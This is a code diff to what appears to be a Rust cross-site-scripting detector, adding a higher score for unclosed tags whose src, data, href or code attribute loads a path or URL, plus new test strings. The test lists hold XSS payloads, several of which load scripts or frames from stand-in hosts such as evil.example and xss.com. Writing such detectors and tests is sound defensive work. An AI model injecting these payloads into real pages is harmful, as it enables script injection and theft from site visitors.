@@ -191,6 +191,15 @@ fn html_hit(s: &str) -> Option<Hit> {
                 }
             } else if tag.closed {
                 90
+            } else if tag.attrs.iter().any(|(n, v)| {
+                v.as_deref().is_some_and(|v| v.contains('/'))
+                    && ["src", "data", "href", "code"]
+                        .iter()
+                        .any(|u| n.eq_ignore_ascii_case(u))
+            }) {
+                // left open for the page's next `>` to close, with a path or URL to
+                // load: `"><script src=//evil.example/x.js`
+                75
             } else {
                 50
             };
@@ -717,6 +726,10 @@ mod tests {
             "${alert(1)}",
             "x${prompt`1`}",
             "<<scr\0ipt/src=http://xss.com/xss.js></script",
+            // left open for the page's next `>`, with what it loads
+            "\"><script src=//evil.example/x.js",
+            "<script src=\"//evil.example&sol;1.js&num;",
+            "<iframe src=//evil.example/x",
             "<iframe srcdoc=\"<svg onload=alert(1)>\"></iframe>",
             "<a href=data:text/html;base64,PHNjcmlwdD4=>1</a>",
             "<img src=x onerror=location=atob`amF2YQ==`>",
@@ -739,6 +752,8 @@ mod tests {
             "call the alerting team, then evaluate.apply rules",
             "prompts (alert)",
             "a\0b <b>bold</b>",
+            "the <script tag goes in the head",
+            "<script src= is how you load a file",
             ">url=/pi?mode=<;>",
             "this[0] = value",
             "I'd like to print (two) copies",
